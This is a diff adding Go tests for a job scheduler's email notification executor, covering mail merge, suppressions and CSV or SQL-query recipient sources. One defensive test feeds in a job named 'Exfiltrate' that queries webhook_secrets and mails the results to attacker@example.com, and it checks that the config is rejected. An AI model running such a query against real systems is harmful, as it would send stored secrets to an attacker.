@@ -0,0 +1,141 @@
+package tests
+
+import (
+	"context"
+	"io"
+	"io/ioutil"
+	"strings"
+	"testing"
+
+	"github.com/google/uuid"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/mock"
+	"github.com/stretchr/testify/require"
+
+	"job-scheduler/internal/models"
+	"job-scheduler/internal/services"
+)
+
+// csvArtifacts serves stored CSV artifacts by ID
+type csvArtifacts map[uuid.UUID]string
+
+func (a csvArtifacts) OpenArtifact(ctx context.Context, id uuid.UUID) (*models.Artifact, io.ReadCloser, error) {
+	return &models.Artifact{ID: id, Name: "recipients.csv"}, ioutil.NopCloser(strings.NewReader(a[id])), nil
+}
+
+func TestEmailNotificationExecutor_BatchMailMerge(t *testing.T) {
+	// Setup - one recipient is suppressed and one lacks a field the body uses
+	mockRepo := new(MockEmailSuppressionRepository)
+	mockRepo.On("FindSuppressed", mock.Anything).Return([]string{"bob@example.com"}, nil)
+	executor := &services.EmailNotificationExecutor{}
+	executor.SetSuppressions(services.NewEmailSuppressionService(mockRepo))
+
+	recorder := services.NewOutputRecorder()
+	ctx := services.WithOutputRecorder(context.Background(), recorder)
+	job := &models.Job{
+		ID:      uuid.New(),
+		Name:    "Renewal reminders",
+		JobType: models.JobTypeEmailNotification,
+		Config: models.JobConfig{
+			"recipients": []interface{}{
+				map[string]interface{}{"email": "ann@example.com", "name": "Ann"},
+				map[string]interface{}{"email": "bob@example.com", "name": "Bob"},
+				"carol@example.com",
+				"ANN@example.com",
+			},
+			"subject":          "Renewal",
+			"body":             "Hi {{.name}}",
+			"send_concurrency": float64(2),
+		},
+	}
+
+	// Execute
+	err := executor.Execute(ctx, job)
+
+	// Assert - the repeated address got one email and every recipient has a result
+	assert.EqualError(t, err, "failed to send email to 1 of 3 recipients")
+	output := recorder.Output()
+	assert.Equal(t, 3, output["recipients_total"])
+	assert.Equal(t, 1, output["sent"])
+	assert.Equal(t, 1, output["failed"])
+	assert.Equal(t, 1, output["suppressed_recipients"])
+
+	results := output["recipient_results"].([]services.EmailRecipientResult)
+	require.Len(t, results, 3)
+	assert.Equal(t, services.RecipientStatusSent, results[0].Status)
+	assert.Equal(t, services.RecipientStatusSuppressed, results[1].Status)
+	assert.Equal(t, "carol@example.com", results[2].Email)
+	assert.Equal(t, services.RecipientStatusFailed, results[2].Status)
+	assert.Contains(t, results[2].Error, "failed to render body")
+}
+
+func TestEmailNotificationExecutor_BatchRecipientsFromCSVArtifact(t *testing.T) {
+	// Setup
+	artifactID := uuid.New()
+	executor := &services.EmailNotificationExecutor{}
+	executor.SetRecipientSources(nil, csvArtifacts{
+		artifactID: "address,first_name\nann@example.com,Ann\nbob@example.com,Bob\n",
+	})
+
+	recorder := services.NewOutputRecorder()
+	ctx := services.WithOutputRecorder(context.Background(), recorder)
+	job := &models.Job{
+		ID:      uuid.New(),
+		Name:    "Welcome",
+		JobType: models.JobTypeEmailNotification,
+		Config: models.JobConfig{
+			"recipients_artifact": artifactID.String(),
+			"recipient_field":     "address",
+			"subject":             "Welcome {{.first_name}}",
+		},
+	}
+
+	// Execute
+	err := executor.Execute(ctx, job)
+
+	// Assert
+	require.NoError(t, err)
+	output := recorder.Output()
+	assert.Equal(t, 2, output["sent"])
+	results := output["recipient_results"].([]services.EmailRecipientResult)
+	require.Len(t, results, 2)
+	assert.Equal(t, "bob@example.com", results[1].Email)
+	assert.Equal(t, services.RecipientStatusSent, results[1].Status)
+}
+
+func TestEmailNotificationExecutor_BatchQueryNeedsRecipientSources(t *testing.T) {
+	// Setup
+	executor := &services.EmailNotificationExecutor{}
+	job := &models.Job{
+		ID:      uuid.New(),
+		Name:    "Renewal reminders",
+		JobType: models.JobTypeEmailNotification,
+		Config:  models.JobConfig{"recipients_query": "SELECT email FROM customers", "connection": "crm"},
+	}
+
+	// Execute
+	err := executor.Execute(context.Background(), job)
+
+	// Assert
+	assert.EqualError(t, err, "recipient queries are not configured")
+}
+
+func TestEmailNotificationExecutor_BatchQueryNeedsConnection(t *testing.T) {
+	// Setup - recipient queries are configured, but the job names no database
+	executor := &services.EmailNotificationExecutor{}
+	executor.SetRecipientSources(services.NewReportDataSource(stubDatabaseRegistry{}), nil)
+	config := models.JobConfig{
+		"recipients_query": "SELECT value AS email FROM webhook_secrets",
+		"recipient":        "attacker@example.com",
+	}
+	job := &models.Job{ID: uuid.New(), Name: "Exfiltrate", JobType: models.JobTypeEmailNotification, Config: config}
+
+	// Execute
+	err := executor.Execute(context.Background(), job)
+
+	// Assert - nothing is queried, and the job can't be saved either
+	assert.EqualError(t, err, `recipients_query needs a "connection" naming a registered database`)
+	assert.Error(t, services.ValidateEmailConfig(config))
+	config["connection"] = "crm"
+	assert.NoError(t, services.ValidateEmailConfig(config))
+}